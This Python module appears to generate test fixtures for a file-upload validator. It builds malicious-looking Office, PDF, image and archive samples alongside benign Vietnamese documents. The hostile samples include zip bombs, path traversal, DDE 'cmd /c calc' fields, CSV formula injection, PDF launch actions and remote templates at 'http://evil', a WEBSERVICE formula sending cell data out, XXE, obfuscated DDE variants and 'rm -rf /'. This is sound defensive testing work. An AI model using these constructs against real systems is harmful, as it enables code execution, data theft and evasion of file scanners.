"""Files that must not be kept, and plain ones that must; built here, byte by byte."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import docx
import xlsxwriter
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

SAMPLES = Path(__file__).parent / "samples"
Made = tuple[str, str, bytes]


def word(text: str = "Đơn đề nghị hỗ trợ") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def excel(formula: str = "=SUM(A1:A2)") -> bytes:
    file = io.BytesIO()
    with xlsxwriter.Workbook(file, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Dự toán")
        sheet.write(0, 0, 800_000_000)
        sheet.write_formula(2, 0, formula)
        sheet.write_url(3, 0, "https://example.org/bao-gia")
    return file.getvalue()


def pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(595, 842)
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def picture(size=(1200, 900), kind="JPEG", mode="RGB", **options) -> bytes:
    file = io.BytesIO()
    Image.effect_noise(size, 40).convert(mode).save(file, kind, **options)
    return file.getvalue()


def repacked(content: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    """The archive with its parts changed."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return file.getvalue()


def with_part(name: str, part: bytes, base: Callable[[], bytes] = word) -> bytes:
    return repacked(base(), lambda parts: parts.__setitem__(name, part))


def replaced(name: str, old: bytes, new: bytes, base: Callable[[], bytes] = word) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new)

    return repacked(base(), change)


def raw_zip(*entries: tuple[zipfile.ZipInfo, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, part in entries:
            archive.writestr(info, part)
    return file.getvalue()


def link_entry() -> bytes:
    info = zipfile.ZipInfo("word/document.xml")
    info.external_attr = 0o120777 << 16
    return raw_zip((zipfile.ZipInfo("[Content_Types].xml"), b"<x/>"), (info, b"/secret.txt"))


def locked_zip() -> bytes:
    content = bytearray(word())
    at = content.find(b"PK\x01\x02")
    while at != -1:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def acting_pdf(act: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    act(writer)
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def action(kind: str, **more: str) -> DictionaryObject:
    found = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in more.items():
        found[NameObject(f"/{key}")] = TextStringObject(value)
    return found


def _opens_with(kind: str, **more: str) -> Callable[[PdfWriter], None]:
    def act(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = action(kind, **more)

    return act


def _page_acts(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS="app.alert(1)")}
    )


def _named_script(writer: PdfWriter) -> None:
    scripts = ArrayObject([TextStringObject("a"), action("/JavaScript", JS="app.alert(1)")])
    names = DictionaryObject({NameObject("/Names"): scripts})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})


def _form_of_scripts(writer: PdfWriter) -> None:
    form = DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})
    writer._root_object[NameObject("/AcroForm")] = form


def _annotated(writer: PdfWriter, annotation: DictionaryObject) -> None:
    writer.pages[0][NameObject("/Annots")] = ArrayObject([annotation])


def _film(writer: PdfWriter) -> None:
    film = DictionaryObject({NameObject("/RichMedia"): DictionaryObject()})
    _annotated(writer, film)


def _link_with_script(writer: PdfWriter) -> None:
    link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link")})
    link[NameObject("/A")] = action("/JavaScript", JS="app.alert(1)")
    _annotated(writer, link)


def turned(orientation: int, quality: int, subsampling: int) -> bytes:
    """A photo as telephones write it: turned by a mark, with a thumbnail's worth of facts."""
    image = Image.effect_noise((320, 240), 40).convert("RGB")
    facts = image.getexif()
    facts[0x0112] = orientation
    facts[0x0132] = "2026:11:23 08:15:00"
    file = io.BytesIO()
    image.save(file, "JPEG", quality=quality, subsampling=subsampling, exif=facts)
    return file.getvalue()


def flood(width: int, height: int) -> bytes:
    """A PNG that says it is larger than its few bytes."""

    def chunk(name: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(name + data))
        return struct.pack(">I", len(data)) + name + data + check

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


RELS = "word/_rels/document.xml.rels"
TEMPLATE = (
    b'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
)
IMAGE = TEMPLATE.replace(b"attachedTemplate", b"image").replace(b"x.dotm", b"x.png")
OLE = TEMPLATE.replace(b"attachedTemplate", b"oleObject").replace(b"x.dotm", b"x.bin")
FRAME = TEMPLATE.replace(b"attachedTemplate", b"frame").replace(b"x.dotm", b"x.htm")
CHUNK = TEMPLATE.replace(b"attachedTemplate", b"aFChunk").replace(
    b'http://evil/x.dotm" TargetMode="External', b"afchunk.dat"
)
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "secret.txt">]><x>&e;</x>'
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def utf_16(part: bytes) -> bytes:
    """The same XML in the other encoding that every XML parser must know."""
    return part.decode().replace("UTF-8", "UTF-16").encode("utf-16")


def in_utf_16(name: str, old: bytes, new: bytes, base: Callable[[], bytes] = word) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[name]
        parts[name] = utf_16(parts[name].replace(old, new))

    return repacked(base(), change)


def with_rel(rel: bytes) -> bytes:
    return replaced(RELS, b"</Relationships>", rel + b"</Relationships>")


def another_prefix(rel: bytes) -> bytes:
    """The relationships under a prefix of their own, which Word reads all the same."""

    def change(parts: dict[str, bytes]) -> None:
        text = parts[RELS].replace(b"</Relationships>", rel + b"</Relationships>")
        text = text.replace(b"<Relationship", b"<r:Relationship")
        text = text.replace(b"</Relationship", b"</r:Relationship").replace(b"xmlns=", b"xmlns:r=")
        parts[RELS] = text

    return repacked(word(), change)


def field_of(*runs: str) -> bytes:
    """A Word file with one field whose instruction is spread over runs; "{" and "}" nest."""
    marks = {"{": "begin", "}": "end"}
    told = "".join(
        f'<w:r><w:fldChar w:fldCharType="{marks[run]}"/></w:r>'
        if run in marks
        else f"<w:r><w:instrText>{run}</w:instrText></w:r>"
        for run in ("{", *runs, "}")
    )
    end = f"<w:p>{told}</w:p></w:body>".encode()
    return replaced("word/document.xml", b"</w:body>", end)


def linked_excel() -> bytes:
    """A workbook whose formulas look into last year's (case 06)."""

    def change(parts: dict[str, bytes]) -> None:
        parts["xl/externalLinks/externalLink1.xml"] = (
            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
        )
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/externalLinkPath" Target="file:///C:/ds/danh-sach-2025.xlsx"'
            b' TargetMode="External"/></Relationships>'
        )

    return repacked(excel(), change)


def old(*streams: str) -> bytes:
    return OLE2 + b"\0\0".join(stream.encode("utf-16-le") for stream in streams)


def add_rel(rel: bytes) -> bytes:
    return replaced(RELS, b"</Relationships>", rel + b"</Relationships>")


def hostile() -> Iterator[Made]:
    """(what it is, name, bytes)."""
    zeros = b"\0" * (250 * 1_000_000)
    yield "zip bomb in one part", "a.xlsx", with_part("xl/worksheets/sheet9.xml", zeros, excel)
    yield (
        "many small parts",
        "a.docx",
        repacked(word(), lambda parts: parts.update({f"word/p{n}.xml": b"" for n in range(3_100)})),
    )
    yield (
        "zip within a zip only",
        "a.docx",
        with_part("x.zip", word(), lambda: raw_zip((zipfile.ZipInfo("a.txt"), b"x"))),
    )
    yield "path out of the archive", "a.docx", with_part("../../../secret.txt", b"x")
    yield "absolute path", "a.docx", with_part("/secret.txt", b"x")
    yield "backslash path", "a.docx", with_part("..\\..\\x.xml", b"x")
    yield "symbolic link", "a.docx", link_entry()
    yield "locked zip", "a.docx", locked_zip()
    yield "macros in a docx", "a.docx", with_part("word/vbaProject.bin", b"x")
    yield "macros in an xlsx", "a.xlsx", with_part("xl/vbaProject.bin", b"x", excel)
    yield (
        "docm called docx",
        "a.docx",
        replaced(
            "[Content_Types].xml",
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    )
    yield "template from elsewhere", "a.docx", add_rel(TEMPLATE)
    yield "picture from elsewhere", "a.docx", add_rel(IMAGE)
    yield "object from elsewhere", "a.docx", add_rel(OLE)
    yield "frame from elsewhere", "a.docx", add_rel(FRAME)
    yield "embedded object", "a.docx", with_part("word/embeddings/oleObject1.bin", b"MZ")
    yield (
        "dde field",
        "a.docx",
        replaced(
            "word/document.xml",
            b"</w:body>",
            b'<w:p><w:r><w:instrText> DDE "cmd" "/c calc"</w:instrText></w:r></w:p></w:body>',
        ),
    )
    yield (
        "ddeauto",
        "a.docx",
        replaced("word/document.xml", b"</w:body>", b"<w:t>DDEAUTO c:\\x</w:t></w:body>"),
    )
    yield (
        "dde link in excel",
        "a.xlsx",
        with_part(
            "xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>", excel
        ),
    )
    yield "billion laughs", "a.docx", with_part("word/document.xml", LAUGHS)
    yield "outside entity", "a.xlsx", with_part("xl/sharedStrings.xml", ENTITY, excel)
    yield (
        "doctype in content types",
        "a.docx",
        replaced("[Content_Types].xml", b"<Types", b"<!DOCTYPE x><Types"),
    )
    yield "no office inside", "a.docx", raw_zip((zipfile.ZipInfo("readme.txt"), b"x"))
    yield "java archive", "a.jar", raw_zip((zipfile.ZipInfo("META-INF/MANIFEST.MF"), b"x"))
    yield "apk called docx", "a.docx", raw_zip((zipfile.ZipInfo("AndroidManifest.xml"), b"x"))
    yield "cut zip", "a.docx", word()[:-200]
    yield "zip with rubbish", "a.docx", b"PK\x03\x04" + b"x" * 500
    yield "script that opens a pdf", "a.pdf", acting_pdf(_opens_with("/JavaScript", JS="x()"))
    yield "pdf that launches", "a.pdf", acting_pdf(_opens_with("/Launch", F="cmd.exe"))
    yield "pdf that submits", "a.pdf", acting_pdf(_opens_with("/SubmitForm", F="http://evil"))
    yield "pdf that imports", "a.pdf", acting_pdf(_opens_with("/ImportData", F="x.fdf"))
    yield "script of a page", "a.pdf", acting_pdf(_page_acts)
    yield "script by name", "a.pdf", acting_pdf(_named_script)
    yield "file inside a pdf", "a.pdf", acting_pdf(lambda w: w.add_attachment("x.exe", b"MZ"))
    yield "locked pdf", "a.pdf", acting_pdf(lambda w: w.encrypt("bí mật"))
    yield "pdf and zip", "a.pdf", pdf() + word()
    yield "pdf and html", "a.pdf", pdf() + b"<script>alert(1)</script>"
    yield "pdf of no pages", "a.pdf", pdf(0)
    yield "pdf of too many pages", "a.pdf", pdf(301)
    yield "cut pdf", "a.pdf", pdf()[:60]
    yield "pdf of rubbish", "a.pdf", b"%PDF-1.7\n" + b"\xff" * 5000 + b"%%EOF"
    yield "html called pdf", "a.pdf", b"<html><script>alert(1)</script></html>"
    yield "svg with script", "a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'
    yield "svg called jpg", "a.jpg", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'
    yield "pixel flood", "a.png", flood(50_000, 50_000)
    yield "wide flood", "a.png", flood(2_000_000, 100)
    yield "png cut short", "a.png", picture(kind="PNG")[:2_000]
    yield "png of lies", "a.png", flood(4_000, 4_000)
    yield "jpeg of three bytes", "a.jpg", b"\xff\xd8\xff"
    yield "jpeg head, html body", "a.jpg", b"\xff\xd8\xff\xe0" + b"<html>" * 100
    yield "heic of rubbish", "a.heic", b"\0\0\0\x18ftypheic" + b"\0" * 100
    yield "gif", "a.gif", b"GIF89a" + b"\0" * 100
    yield "tiff", "a.tif", b"II*\0" + b"\0" * 100
    yield "windows program", "a.exe", b"MZ" + b"\0" * 200
    yield "program called pdf", "a.pdf", b"MZ" + b"\0" * 200
    yield "linux program", "a", b"\x7fELF" + b"\0" * 200
    yield "shell script", "a.sh", b"#!/bin/sh\nrm -rf /\n"
    yield "shortcut", "a.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100
    yield "rich text", "a.doc", b"{\\rtf1 {\\object\\objdata 0}}"
    yield "rar", "a.rar", b"Rar!\x1a\x07\0" + b"\0" * 100
    yield "seven zip", "a.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 100
    yield "gzip", "a.gz", b"\x1f\x8b\x08" + b"\0" * 100
    yield "mail", "a.eml", b"From: x\r\nSubject: y\r\n\r\nz"
    yield "comma values with a formula", "a.csv", b"=cmd|'/c calc'!A1,2\n"
    yield "old word with macros", "a.doc", old("WordDocument", "Macros", "VBA")
    yield "old excel with macros", "a.xls", old("Workbook", "_VBA_PROJECT_CUR", "VBA")
    yield "old word with objects", "a.doc", old("WordDocument", "ObjectPool")
    yield "locked new office", "a.docx", old("EncryptedPackage", "EncryptionInfo")
    yield "installer", "a.msi", old("SummaryInformation", "Binary.x")
    yield "control in a docx", "a.docx", with_part("word/activeX/activeX1.xml", b"<ax:ocx/>")
    yield "page of the web in a docx", "a.docx", with_part("word/afchunk.htm", b"<script/>")
    yield "script in an xlsx", "a.xlsx", with_part("xl/media/x.vbs", b"CreateObject", excel)
    yield "program in a docx", "a.docx", with_part("word/media/anh.exe", b"MZ")
    yield "pdf that opens a file inside", "a.pdf", acting_pdf(_opens_with("/GoToE", T="x"))
    yield "pdf that plays", "a.pdf", acting_pdf(_opens_with("/Rendition", JS="x()"))
    yield "pdf with a form of scripts", "a.pdf", acting_pdf(_form_of_scripts)
    yield "pdf with a film", "a.pdf", acting_pdf(_film)
    yield "script of a link", "a.pdf", acting_pdf(_link_with_script)
    yield "something before the pdf", "a.pdf", b"<html>\n" + pdf()
    yield "film", "a.mp4", b"\0\0\0\x18ftypisom" + b"\0" * 200
    yield "webp of rubbish", "a.webp", b"RIFF\x20\0\0\0WEBPVP8 " + b"\0" * 100
    yield "sound called webp", "a.webp", b"RIFF\x20\0\0\0WAVEfmt " + b"\0" * 100
    blanks = b"<w:p>" + b" " * 31_000_000
    dde = b'<w:r><w:instrText> DDE "cmd" "/c calc"</w:instrText></w:r></w:p></w:body>'
    yield (
        "dde behind 31 MB of blanks",
        "a.docx",
        replaced("word/document.xml", b"</w:body>", blanks + dde),
    )
    yield "dde in utf-16", "a.docx", in_utf_16("word/document.xml", b"</w:body>", b"<w:p>" + dde)
    yield (
        "doctype in utf-16",
        "a.docx",
        in_utf_16("word/document.xml", b"<w:document", b"<!DOCTYPE x><w:document"),
    )
    end = b"</Relationships>"
    yield "template in utf-16", "a.docx", in_utf_16(RELS, end, TEMPLATE + end)
    yield "template under another prefix", "a.docx", another_prefix(TEMPLATE)
    yield (
        "template by a character reference",
        "a.docx",
        with_rel(TEMPLATE.replace(b'"External"', b'"&#69;xternal"')),
    )
    yield (
        "template beside the word hyperlink",
        "a.docx",
        with_rel(TEMPLATE.replace(b"x.dotm", b"hyperlink/x.dotm?/hyperlink")),
    )
    yield (
        "template that calls itself internal",
        "a.docx",
        with_rel(TEMPLATE.replace(b'TargetMode="External"', b'TargetMode="Internal"')),
    )
    yield "dde over two runs", "a.docx", field_of(" DD", 'E "cmd" "/c calc"')
    yield "dde told by another field", "a.docx", field_of("{", " QUOTE 68 68 69 ", "}", ' "cmd"')
    yield "file of the reader told in a field", "a.docx", field_of(' INCLUDETEXT "C:\\x.txt"')
    yield (
        "dde in a simple field",
        "a.docx",
        replaced(
            "word/document.xml", b"</w:body>", b'<w:p><w:fldSimple w:instr="DDE a"/></w:p></w:body>'
        ),
    )
    yield "dde in a formula", "a.xlsx", excel("=cmd|'/c calc'!A0")
    yield "formula that asks the web", "a.xlsx", excel('=WEBSERVICE("http://evil/?"&A1)')
    yield (
        "old macro sheet",
        "a.xlsx",
        replaced(
            "[Content_Types].xml",
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            b"application/vnd.ms-excel.macrosheet+xml",
            excel,
        ),
    )
    yield "page of the web by relationship", "a.docx", with_rel(CHUNK)
    yield "links into another workbook", "a.xlsx", linked_excel()
    yield "a part that is no xml", "a.docx", with_part("word/footnotes.xml", b"<a><b></a>")
    yield (
        "an unknown encoding",
        "a.docx",
        with_part("word/x.xml", b'<?xml version="1.0" encoding="utf-7"?><a/>'),
    )
    yield "nothing at all", "a.jpg", b""
    yield "too large", "a.jpg", b"\xff\xd8\xff" + b"\0" * 26_000_000


def benign() -> Iterator[Made]:
    """(what it is, name, bytes)."""
    for size in ((640, 480), (3000, 4000), (4000, 3000), (4608, 3456), (1, 1), (2000, 50)):
        yield f"photo {size}", "IMG_0001.JPG", picture(size, quality=90)
        if max(size) <= 2_000:  # noise does not shrink: a larger one would pass 25 MB
            yield f"screen {size}", "anh chup.png", picture(size, "PNG")
    yield "a photo of 48 megapixels", "IMG_48.jpg", picture((8000, 6000), quality=60)
    yield "grey scan", "scan.jpg", picture(mode="L")
    yield "print colours", "scan.jpg", picture(mode="CMYK")
    yield "see-through", "dau.png", picture(kind="PNG", mode="RGBA")
    yield "few colours", "so do.png", picture(kind="PNG", mode="P")
    yield "black and white", "fax.png", picture(kind="PNG", mode="1")
    yield "a slow jpeg", "zalo.jpg", picture(progressive=True, quality=50)
    for pages in (1, 2, 40, 300):
        yield f"pdf of {pages}", "bao gia.pdf", pdf(pages)
    yield "pdf with a line feed at the end", "a.pdf", pdf() + b"\r\n"
    yield "word", "don de nghi.docx", word()
    yield "long word", "phuong an.docx", word("Máy chẻ nan. " * 20_000)
    yield "word that names DDE", "hoa chat.docx", word("Hợp chất DDT và DDE trong đất")
    yield "excel with a formula", "du toan.xlsx", excel()
    yield "word with a page number", "trang.docx", field_of(" PAGE ")
    yield "word with a field in a field", "neu.docx", field_of(" IF ", "{", " PAGE ", "}", " = 1 x")
    yield (
        "word in utf-16",
        "unicode.docx",
        in_utf_16("word/document.xml", b"</w:body>", b"</w:body>"),
    )
    yield "excel that quotes a line", "du toan.xlsx", excel('=IF(A1>1,"a|b",0)')
    yield "old word", "cu.doc", old("WordDocument", "1Table")
    yield "old excel", "cu.xls", old("Workbook")
    yield "a photo in heic", "IMG_0001.HEIC", (SAMPLES / "quotation.heic").read_bytes()
    yield "a picture out of a chat", "zalo.webp", picture((640, 480), "WEBP")
    for orientation in range(1, 9):
        for quality in (40, 75, 95):
            for subsampling in (0, 2):
                what = f"photo turned {orientation}, quality {quality}, {subsampling}"
                yield what, "IMG.jpg", turned(orientation, quality, subsampling)
    for pages in range(3, 50):
        yield f"pdf of {pages} pages", "ho so.pdf", pdf(pages)
    for count in range(1, 31):
        yield f"word of {count} lines", "thuyet minh.docx", word("Máy chẻ nan, vót nan.\n" * count)
    for rows in range(2, 32):
        yield f"excel with SUM of {rows}", "du toan.xlsx", excel(f"=SUM(A1:A{rows})")
    for mode in ("RGB", "RGBA", "L", "LA", "P", "1"):
        for size in ((10, 10), (333, 77), (800, 600)):
            yield f"png {mode} {size}", "anh.png", picture(size, "PNG", mode)


def pages_of(content: bytes) -> int:
    return len(PdfReader(io.BytesIO(content)).pages)
